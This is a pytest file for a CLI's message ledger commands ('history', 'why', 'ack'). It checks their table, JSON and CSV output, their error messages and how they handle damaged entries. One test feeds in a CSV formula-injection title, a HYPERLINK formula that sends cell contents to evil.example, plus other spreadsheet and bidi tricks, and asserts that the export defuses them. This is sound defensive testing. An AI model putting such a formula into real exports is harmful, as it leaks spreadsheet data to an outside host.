"""``history``, ``why`` and ``ack``: what the ledger keeps, as a person and as a program reads it."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from datetime import UTC, datetime
from pathlib import Path

import pytest

from messenger_rules.agent.ledger.events import Event, EventKind
from messenger_rules.agent.ledger.file import LedgerFile
from messenger_rules.agent.ledger.personal import FileLedger, user_name
from tests.cli.conftest import Run

AT = datetime(2026, 3, 1, 12, tzinfo=UTC)
BECAUSE = "yes console.version in 5.2 ..< 5.2.1   (console.version is 5.2)"


@pytest.fixture(autouse=True)
def _ledger(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MESSENGER_RULES_STATE", str(tmp_path / "state"))
    with FileLedger.of_user(tmp_path / "state") as ledger:
        ledger.displayed("console-hole", 1, "en", AT, title="The console, with a hole", because=BECAUSE)
        ledger.acknowledge("console-hole", 1, "en", AT.replace(hour=13))
        ledger.displayed("console-hole", 2, "de", AT.replace(day=2), title="Loch", because=BECAUSE)


def test_what_went_away_by_itself_has_its_reason(run: Run, tmp_path: Path) -> None:
    user = user_name()
    with LedgerFile(tmp_path / "state") as file:
        file.record(
            [
                Event("gone", 1, EventKind.LATER, AT, user=user, until=AT.replace(day=2), because="s1"),
                Event("gone", 1, EventKind.WITHDRAWN, AT.replace(day=3), user=user, because="console.version went up"),
            ]
        )
    assert run("history", "--message", "gone").out == (
        "2026-03-01 12:00:00 UTC  later         gone (revision 1) until 2026-03-02 12:00:00 UTC\n"
        "2026-03-03 12:00:00 UTC  withdrawn     gone (revision 1): console.version went up\n"
    )


def test_why_tells_what_went_away_and_what_was_passed_over(run: Run, tmp_path: Path) -> None:
    user = user_name()
    with LedgerFile(tmp_path / "state") as file:
        file.record(
            [
                Event("gone", 1, EventKind.DISPLAYED, AT, user=user, title="Title", because="yes x"),
                Event("gone", 1, EventKind.WITHDRAWN, AT.replace(day=3), user=user, because="x went up"),
                Event("old", 2, EventKind.PASSED, AT, user=user, because="it began before the agent came to this host"),
            ]
        )
    assert run("why", "gone").out.endswith("Revision 1 went away at 2026-03-03 12:00:00 UTC: x went up.\n")
    assert run("why", "old").out == (
        "old, revision 2: you were not shown it, because it began before the agent came to this host.\n"
    )
    assert json.loads(run("why", "gone", "--json").out)["withdrawn"]["because"] == "x went up"
    with LedgerFile(tmp_path / "state") as file:
        file.record([Event("gone", 1, EventKind.RETURNED, AT.replace(day=4), user=user)])
    assert "went away" not in run("why", "gone").out


def test_the_history_as_a_table(run: Run) -> None:
    assert run("history") == (
        0,
        (
            "2026-03-01 12:00:00 UTC  displayed     console-hole (revision 1)  The console, with a hole\n"
            "2026-03-01 13:00:00 UTC  acknowledged  console-hole (revision 1)\n"
            "2026-03-02 12:00:00 UTC  displayed     console-hole (revision 2)  Loch\n"
        ),
        "",
    )
    assert run("history", "--since", "2026-03-01T12:30Z").out.count("\n") == 2
    assert run("history", "--message", "other").out == ""


def test_no_cell_of_csv_is_a_formula_or_hides(run: Run, tmp_path: Path) -> None:
    titles = ['=HYPERLINK("https://evil.example/?"&A1,"Read on")', "\t@sum(a1)", "\u202e\x9b", "Überprüfung"]
    with FileLedger.of_user(tmp_path / "state") as ledger:
        for number, title in enumerate(titles):
            ledger.displayed(f"message-{number}", 1, "en", AT.replace(day=3, hour=number), title=title, because="")
    rows = list(csv.DictReader(io.StringIO(run("history", "--csv", "--since", "2026-03-03T00:00Z").out)))

    assert [row["title"] for row in rows] == [f"'{titles[0]}", "' @sum(a1)", r"\u202e\x9b", "Überprüfung"]


def test_the_history_as_json_and_csv(run: Run) -> None:
    found = json.loads(run("history", "--json").out)
    assert found[0] == {
        "message": "console-hole",
        "revision": 1,
        "event": "displayed",
        "at": "2026-03-01T12:00:00+00:00",
        "language": "en",
        "title": "The console, with a hole",
    }
    rows = list(csv.DictReader(io.StringIO(run("history", "--csv").out)))
    assert [{**row, "revision": int(row["revision"])} for row in rows] == found


def test_why_tells_what_was_true_then(run: Run) -> None:
    assert run("why", "console-hole") == (
        0,
        (
            "console-hole, revision 2: Loch\n"
            "You were shown it first at 2026-03-02 12:00:00 UTC, because then:\n"
            f"  {BECAUSE}\n"
            "You acknowledged revision 1 at 2026-03-01 13:00:00 UTC.\n"
        ),
        "",
    )
    found = json.loads(run("why", "console-hole", "--json").out)
    assert found["because"] == BECAUSE
    assert found["acknowledged"]["revision"] == 1


def test_an_acknowledgement_without_looking(run: Run) -> None:
    assert run("ack", "console-hole").out == "console-hole, revision 2: acknowledged\n"
    assert run("ack", "console-hole").out == "console-hole, revision 2: was acknowledged before\n"
    assert run("ack", "never-shown", "--revision", "3").out == "never-shown, revision 3: acknowledged\n"
    assert json.loads(run("ack", "never-shown", "--revision", "3", "--json").out)["acknowledged"] == "before"
    assert [row["event"] for row in json.loads(run("history", "--message", "console-hole", "--json").out)] == [
        "displayed",
        "acknowledged",
        "displayed",
        "acknowledged",
    ]


@pytest.mark.parametrize("command", ["why", "ack"])
def test_a_message_that_was_never_shown(command: str, run: Run) -> None:
    ran = run(command, "console-whole")
    assert (ran.status, ran.out) == (1, "")
    assert ran.err == (
        "error[MR595]: you were not shown a message `console-whole` here\n = help: did you mean `console-hole`?\n\n"
    )
    assert "`messenger-rules history` lists" in run(command, "x" * 40).err


def test_what_show_shows_is_in_the_history(
    run: Run, folder: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setattr("sys.stdin.isatty", lambda: True, raising=False)
    monkeypatch.setattr("sys.stdout.isatty", lambda: True, raising=False)
    monkeypatch.setattr("builtins.input", lambda _: "a")
    monkeypatch.setenv("TERM", "dumb")
    run("show", "messages.xml", "--facts", "hosts/old.json", "--at", "2026-02-01T00:00Z", "--language", "en")
    assert "You were shown it first at" in run("why", "anti-virus-9-5").out
    assert "anti-virus 9.5.0 is installed" in run("why", "anti-virus-9-5").out


def test_a_damaged_entry_is_told(run: Run, tmp_path: Path) -> None:
    with sqlite3.connect(tmp_path / "state" / "ledger.sqlite3") as connection:
        connection.execute("update event set title = 'x' where revision = 2")
    ran = run("history")
    assert ran.status == 0
    assert "warning[MR594]" in ran.err
    assert "Loch" not in ran.out
